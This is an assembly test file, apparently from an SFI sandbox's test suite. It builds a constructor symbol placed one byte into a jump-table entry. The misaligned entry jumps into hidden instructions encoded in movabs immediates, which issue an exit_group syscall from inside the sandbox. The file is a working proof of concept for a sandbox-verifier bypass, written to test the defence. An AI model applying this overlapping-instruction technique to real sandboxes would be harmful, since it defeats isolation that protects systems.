# ctor_midentry.s: a constructor (init_array entry) that is a STT_FUNC
# symbol one byte into a jump-table entry. The verifier does not make
# function starts inside the table units ("may be branch targets if they
# are entry starts"), but run_ctors (instance.c) accepts any .symtab
# function start. The last table entry is `jmp F` with F placed so that the
# rel32 bytes read `eb 1f 00 00`: from entry+1 that is `jmp .+0x1f` into a
# movabs immediate at gad+2, whose hidden code is mov $42,%edi; jmp; mov
# $231,%eax; syscall: exit_group(42) from the sandbox, during
# sfi_instance_new. (Offsets assume the crt's 65 entries and its 2-byte
# .text before ours; the link is checked by run.sh via the exit status.)
        .section sfi_jt,"ax",@progbits
        .p2align 4
        .rept 62
        jmp F
        .p2align 4, 0xcc
        .endr
        .globl ctor
        .type ctor,@function
entry:  .byte 0xe9
ctor:   .long F - (entry + 5)
        .fill 11, 1, 0xcc

        .text
        .p2align 4, 0xcc
        .globl gad
        .type gad,@function
gad:
        .byte 0x48, 0xb8, 0xbf, 0x2a, 0x00, 0x00, 0x00, 0xeb, 0x03, 0xcc
        .byte 0x48, 0xb8, 0xb8, 0xe7, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xcc
        ret
        .org 8144, 0xcc
        .globl F
        .type F,@function
F:
        ret

        .globl attack
        .type attack,@function
attack:
        ret

        .section .init_array,"aw",@init_array
        .p2align 3
        .quad ctor

        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
